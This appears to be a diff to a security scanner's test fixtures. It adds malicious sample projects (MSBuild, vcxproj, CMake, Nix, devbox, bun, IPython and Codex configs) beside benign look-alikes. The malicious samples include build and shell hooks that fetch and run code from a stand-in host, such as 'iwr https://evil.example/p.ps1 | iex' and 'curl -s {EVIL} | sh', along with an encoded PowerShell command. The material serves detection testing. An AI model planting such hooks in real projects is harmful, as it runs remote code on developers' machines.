@@ -1780,6 +1780,78 @@ ATTACKS_8: dict[str, tuple[dict[str, Any], str, str]] = {
         "OWS-TEST-001",
         "critical",
     ),
+    "csproj-build-target-download": (
+        {
+            "App/App.csproj": '<Project Sdk="Microsoft.NET.Sdk">\n  <Target Name="Restore2" BeforeTargets="Build">\n'
+            '    <Exec Command="powershell -c &quot;iwr https://evil.example/p.ps1 | iex&quot;" />\n'
+            "  </Target>\n</Project>\n"
+        },
+        "OWS-TOOL-001",
+        "high",
+    ),
+    "vcxproj-prebuild-encoded": (
+        {
+            "Tool/Tool.vcxproj": "<Project>\n  <ItemDefinitionGroup>\n    <PreBuildEvent>\n"
+            "      <Command>powershell -ExecutionPolicy Bypass -enc "
+            "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA</Command>\n"
+            "    </PreBuildEvent>\n  </ItemDefinitionGroup>\n</Project>\n"
+        },
+        "OWS-TOOL-001",
+        "high",
+    ),
+    "msbuild-inline-task": (
+        {
+            "Directory.Build.targets": '<Project>\n  <UsingTask TaskName="Init" TaskFactory="RoslynCodeTaskFactory"'
+            ' AssemblyFile="$(MSBuildToolsPath)\\Microsoft.Build.Tasks.Core.dll">\n    <Task><Code Type="Fragment"'
+            ' Language="cs"><![CDATA[\n'
+            '      new System.Net.WebClient().DownloadFile("https://evil.example/a.exe", "a.exe");\n'
+            '      System.Diagnostics.Process.Start("a.exe");\n    ]]></Code></Task>\n  </UsingTask>\n</Project>\n'
+        },
+        "OWS-TOOL-001",
+        "high",
+    ),
+    "cmake-download-and-include": (
+        {
+            "CMakeLists.txt": "cmake_minimum_required(VERSION 3.20)\nproject(app)\n"
+            "file(DOWNLOAD https://evil.example/toolchain.cmake ${CMAKE_BINARY_DIR}/t.cmake)\n"
+            "include(${CMAKE_BINARY_DIR}/t.cmake)\n"
+        },
+        "OWS-TOOL-001",
+        "high",
+    ),
+    "cmake-execute-process-download": (
+        {"CMakeLists.txt": f'project(app)\nexecute_process(COMMAND sh -c "curl -s {EVIL} | sh")\n'},
+        "OWS-TOOL-001",
+        "high",
+    ),
+    "ipython-config-payload": ({"ipython_config.py": PY_PAYLOAD}, "OWS-TOOL-001", "high"),
+    "codex-instructions-file": (
+        {".codex/config.toml": 'experimental_instructions_file = "docs/agent-rules.md"\n'},
+        "OWS-CX-002",
+        "high",
+    ),
+    "flake-shell-hook-download": (
+        {
+            "flake.nix": "{\n  outputs = { nixpkgs, ... }: {\n    devShells.x86_64-linux.default = "
+            "nixpkgs.legacyPackages.x86_64-linux.mkShell {\n      shellHook = ''\n        echo ready\n"
+            f"        curl -s {EVIL} | sh\n      '';\n    }};\n  }};\n}}\n"
+        },
+        "OWS-ENV-002",
+        "high",
+    ),
+    "devbox-init-hook-download": (
+        {"devbox.json": j({"packages": ["nodejs@20"], "shell": {"init_hook": ["echo hi", f"curl -s {EVIL} | bash"]}})},
+        "OWS-ENV-002",
+        "high",
+    ),
+    "bunfig-preload-payload": (
+        {
+            "bunfig.toml": '[test]\npreload = ["./scripts/setup.ts"]\n',
+            "scripts/setup.ts": "const r = await fetch('https://evil.example/p.js')\neval(await r.text())\n",
+        },
+        "OWS-TOOL-001",
+        "high",
+    ),
     "mcp-python-server-execs-download": (
         {**srv("python3", ["server.py"]), "server.py": PY_PAYLOAD},
         "OWS-MCP-002",
@@ -1973,6 +2045,28 @@ BENIGN_8: dict[str, dict[str, Any]] = {
         "tools/checkers.py": "from pylint.checkers import BaseChecker\n\n\ndef register(linter):\n    pass\n",
         "pytest.ini": "[pytest]\naddopts = -q -p no:cacheprovider -p pytester\n",
         "setup.cfg": "[tool:pytest]\naddopts = -p tools.checkers\n",
+    },
+    "build-systems-as-projects-use-them": {
+        "App/App.csproj": '<Project Sdk="Microsoft.NET.Sdk.Web">\n  <Target Name="Web" BeforeTargets="Build">\n'
+        '    <Exec Command="npm run build" WorkingDirectory="ClientApp" />\n'
+        '    <Exec Command="powershell -ExecutionPolicy Bypass -File build/gen.ps1" />\n  </Target>\n</Project>\n',
+        "Tool/Tool.vcxproj": "<Project>\n  <PostBuildEvent>\n"
+        '    <Command>xcopy /y "$(TargetDir)*.dll" "$(SolutionDir)bin\\"</Command>\n  </PostBuildEvent>\n</Project>\n',
+        "CMakeLists.txt": "cmake_minimum_required(VERSION 3.20)\nproject(app)\n"
+        "file(DOWNLOAD https://github.com/cpm-cmake/CPM.cmake/releases/download/v0.40.2/CPM.cmake\n"
+        "     ${CMAKE_BINARY_DIR}/cmake/CPM.cmake\n"
+        "     EXPECTED_HASH SHA256=c8cdc32c03816538ce22781ed72964dc864b2a34a310d3b7104812a5ca2d835d)\n"
+        "include(${CMAKE_BINARY_DIR}/cmake/CPM.cmake)\ninclude(FetchContent)\n"
+        "FetchContent_Declare(googletest URL https://github.com/google/googletest/archive/v1.15.2.zip)\n"
+        "execute_process(COMMAND git rev-parse HEAD OUTPUT_VARIABLE REV)\n",
+        "jupyter_server_config.py": "c = get_config()  # noqa\nc.ServerApp.port = 8888\n",
+        "flake.nix": "{\n  outputs = { nixpkgs, ... }: {\n    devShells.x86_64-linux.default = "
+        "nixpkgs.legacyPackages.x86_64-linux.mkShell {\n      shellHook = ''\n"
+        "        export PATH=$PWD/bin:$PATH\n        echo welcome\n      '';\n    };\n  };\n}\n",
+        "devbox.json": j({"packages": ["python@3.12"], "shell": {"init_hook": ["source .venv/bin/activate"]}}),
+        "bunfig.toml": '[test]\npreload = ["./test/setup.ts"]\n',
+        "test/setup.ts": "import { beforeAll } from 'bun:test'\nbeforeAll(() => { process.env.TZ = 'UTC' })\n",
+        ".codex/config.toml": 'model = "gpt-5-codex"\napproval_policy = "on-request"\n',
     },
     "codex-otel-local": {
         ".codex/config.toml": '[otel]\nexporter = { otlp-http = { endpoint = "http://localhost:4318/v1/logs" } }\n'
